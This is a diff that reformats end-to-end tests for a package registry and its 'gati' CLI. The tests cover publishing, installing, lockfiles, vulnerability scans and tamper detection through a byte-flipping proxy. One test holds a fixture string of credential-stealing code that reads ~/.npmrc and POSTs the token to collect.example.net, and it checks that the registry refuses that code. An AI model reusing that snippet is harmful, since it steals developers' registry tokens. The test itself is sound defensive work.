@@ -36,18 +36,39 @@ const publish = async (folder: string, ...options: readonly string[]) => {
 async function contentsOf(folder: string): Promise<Record<string, string>> {
   const entries = await readdir(folder, { recursive: true, withFileTypes: true });
   const files = entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name));
-  return Object.fromEntries(await Promise.all(files.sort().map(async (file) => [file.slice(folder.length + 1), createHash('sha256').update(await readFile(file)).digest('hex')])));
+  return Object.fromEntries(
+    await Promise.all(
+      files.sort().map(async (file) => [
+        file.slice(folder.length + 1),
+        createHash('sha256')
+          .update(await readFile(file))
+          .digest('hex'),
+      ]),
+    ),
+  );
 }
 
 describe('from a folder to an installed artifact', () => {
   test('what is published is found, resolved with its dependencies, verified, unpacked, and locked so that a third folder gets the same bytes', async () => {
     const base = await person.folder('base', moduleFiles('@ada/base', '1.0.0'));
-    expect(await publish(base)).toMatchObject({ name: '@ada/base', version: '1.0.0', digest: expect.stringMatching(/^sha256:[0-9a-f]{64}$/), status: 'PUBLISHED' });
+    expect(await publish(base)).toMatchObject({
+      name: '@ada/base',
+      version: '1.0.0',
+      digest: expect.stringMatching(/^sha256:[0-9a-f]{64}$/),
+      status: 'PUBLISHED',
+    });
     const shop = await person.folder('shop', moduleFiles('@ada/shop', '1.2.0', { dependencies: { '@ada/base': '^1.0.0' } }));
     const published = await publish(shop);
     const publishedAt = performance.now();
 
-    const found = await until('the search to find it', async () => (await createClientFor(registry.url).ask('Search', { query: { text: 'shop' } })).search.edges.find(({ node }: any) => node.artifact.name === '@ada/shop'), { patienceMs: 2_000 });
+    const found = await until(
+      'the search to find it',
+      async () =>
+        (await createClientFor(registry.url).ask('Search', { query: { text: 'shop' } })).search.edges.find(
+          ({ node }: any) => node.artifact.name === '@ada/shop',
+        ),
+      { patienceMs: 2_000 },
+    );
     expect(performance.now() - publishedAt).toBeLessThan(2_000);
     expect(found.node.artifact.latest).toMatchObject({ version: '1.2.0' });
     const search = await person.gati(['search', 'shop', '--json']);
@@ -57,7 +78,15 @@ describe('from a folder to an installed artifact', () => {
     const install = await person.gati(['install', '@ada/shop', '--json'], { cwd: app });
     expect(install, install.stderr).toMatchObject({ code: 0 });
     const lock = JSON.parse(await readFile(join(app, 'gati.lock.json'), 'utf8'));
-    expect(lock).toMatchObject({ lockfileVersion: 1, registry: registry.url, roots: { '@ada/shop': '^1.2.0' }, artifacts: { '@ada/base@1.0.0': {}, '@ada/shop@1.2.0': { digest: published.digest, signedBy: expect.stringMatching(/^sha256:/), dependencies: { '@ada/base': '1.0.0' } } } });
+    expect(lock).toMatchObject({
+      lockfileVersion: 1,
+      registry: registry.url,
+      roots: { '@ada/shop': '^1.2.0' },
+      artifacts: {
+        '@ada/base@1.0.0': {},
+        '@ada/shop@1.2.0': { digest: published.digest, signedBy: expect.stringMatching(/^sha256:/), dependencies: { '@ada/base': '1.0.0' } },
+      },
+    });
     expect(JSON.parse(await readFile(join(app, 'gati.json'), 'utf8'))).toEqual({ dependencies: { '@ada/shop': '^1.2.0' } });
     expect(await readFile(join(app, 'gati_modules/@ada/shop/index.js'), 'utf8')).toContain('1.2.0');
 
@@ -81,21 +110,31 @@ describe('from a folder to an installed artifact', () => {
   });
 
   test('a vulnerable dependency shows as findings with a score, streamed while the scan runs', async () => {
-    const lock = { name: 'x', version: '1.0.0', lockfileVersion: 3, packages: { '': { name: 'x', version: '1.0.0', dependencies: { lodash: '4.17.15' } }, 'node_modules/lodash': { version: '4.17.15' } } };
+    const lock = {
+      name: 'x',
+      version: '1.0.0',
+      lockfileVersion: 3,
+      packages: { '': { name: 'x', version: '1.0.0', dependencies: { lodash: '4.17.15' } }, 'node_modules/lodash': { version: '4.17.15' } },
+    };
     const folder = await person.folder('leaky', moduleFiles('@ada/leaky', '1.0.0', {}, { 'package-lock.json': JSON.stringify(lock) }));
     const { score } = await publish(folder);
     expect(score).toBeLessThan(100);
 
     const events = await createClientFor(registry.url).follow('ScanProgress', { artifact: '@ada/leaky', version: '1.0.0' });
     const last = events.at(-1).scanProgress;
-    expect(last).toMatchObject({ status: 'FINDINGS', score, version: { version: '1.0.0', status: 'PUBLISHED', artifact: { name: '@ada/leaky', namespace: { handle: 'ada' } } } });
+    expect(last).toMatchObject({
+      status: 'FINDINGS',
+      score,
+      version: { version: '1.0.0', status: 'PUBLISHED', artifact: { name: '@ada/leaky', namespace: { handle: 'ada' } } },
+    });
     const { artifact } = await createClientFor(registry.url).ask('Security', { name: '@ada/leaky' });
     expect(artifact.version.scan.findings.nodes.map((finding: any) => finding.package?.name)).toContain('lodash');
     expect(artifact.version.signature).toMatchObject({ status: 'VALID', signedBy: { kind: 'KEY' } });
   });
 
   test('code that steals credentials is refused for good, and nobody else ever sees it', async () => {
-    const steal = "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { request } from 'node:https';\nconst token = readFileSync(homedir() + '/.npmrc', 'utf8');\nrequest({ host: 'collect.example.net', method: 'POST' }).end(token);\n";
+    const steal =
+      "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { request } from 'node:https';\nconst token = readFileSync(homedir() + '/.npmrc', 'utf8');\nrequest({ host: 'collect.example.net', method: 'POST' }).end(token);\n";
     const folder = await person.folder('thief', moduleFiles('@ada/thief', '1.0.0', {}, { 'index.js': steal }));
     const refused = await person.gati(['publish', folder]);
 
@@ -113,7 +152,9 @@ describe('a flipped byte on the way', () => {
   beforeAll(async () => {
     digest = (await publish(await person.folder('target', moduleFiles('@ada/target', '1.0.0')))).digest;
     const token = ((await (await fetch(`${registry.url}/v2/token?scope=repository:ada/target:pull`)).json()) as { token: string }).token;
-    const manifest = (await (await fetch(`${registry.url}/v2/ada/target/manifests/${digest}`, { headers: { authorization: `Bearer ${token}` } })).json()) as any;
+    const manifest = (await (
+      await fetch(`${registry.url}/v2/ada/target/manifests/${digest}`, { headers: { authorization: `Bearer ${token}` } })
+    ).json()) as any;
     [layer, config] = [manifest.layers[0].digest, manifest.config.digest];
   });
 
@@ -130,7 +171,10 @@ describe('a flipped byte on the way', () => {
 
     const proxy = await startFlippingProxy(registry.url, marker());
     try {
-      const result = await person.gati(['install', '--frozen', '--registry', proxy.url], { cwd: victim, environment: { XDG_CACHE_HOME: join(victim, '.cache') } });
+      const result = await person.gati(['install', '--frozen', '--registry', proxy.url], {
+        cwd: victim,
+        environment: { XDG_CACHE_HOME: join(victim, '.cache') },
+      });
       expect(proxy.flipped(), 'the proxy must have met what it was to damage').toBeGreaterThan(0);
       expect(result, result.stdout).toMatchObject({ code: 1 });
       expect(result.stderr).toMatch(/DIGEST_INVALID|SIGNATURE_INVALID/);
@@ -161,13 +205,16 @@ async function startFlippingProxy(target: string, marker: string) {
     return Buffer.from(text.slice(0, place) + (text[place] === 'A' ? 'B' : 'A') + text.slice(place + 1), 'latin1');
   };
   const server = createServer((incoming, outgoing) => {
-    const upstream = request({ hostname, port, path: incoming.url, method: incoming.method, headers: { ...incoming.headers, 'accept-encoding': 'identity' } }, async (answer: IncomingMessage) => {
-      const pieces: Buffer[] = [];
-      for await (const piece of answer) pieces.push(piece as Buffer);
-      const body = damage(decodeURIComponent(incoming.url ?? ''), Buffer.concat(pieces));
-      const { 'transfer-encoding': _, ...headers } = answer.headers;
-      outgoing.writeHead(answer.statusCode ?? 502, { ...headers, 'content-length': body.length }).end(body);
-    });
+    const upstream = request(
+      { hostname, port, path: incoming.url, method: incoming.method, headers: { ...incoming.headers, 'accept-encoding': 'identity' } },
+      async (answer: IncomingMessage) => {
+        const pieces: Buffer[] = [];
+        for await (const piece of answer) pieces.push(piece as Buffer);
+        const body = damage(decodeURIComponent(incoming.url ?? ''), Buffer.concat(pieces));
+        const { 'transfer-encoding': _, ...headers } = answer.headers;
+        outgoing.writeHead(answer.statusCode ?? 502, { ...headers, 'content-length': body.length }).end(body);
+      },
+    );
     upstream.once('error', () => outgoing.destroy());
     incoming.pipe(upstream);
   }).listen(0, '127.0.0.1');
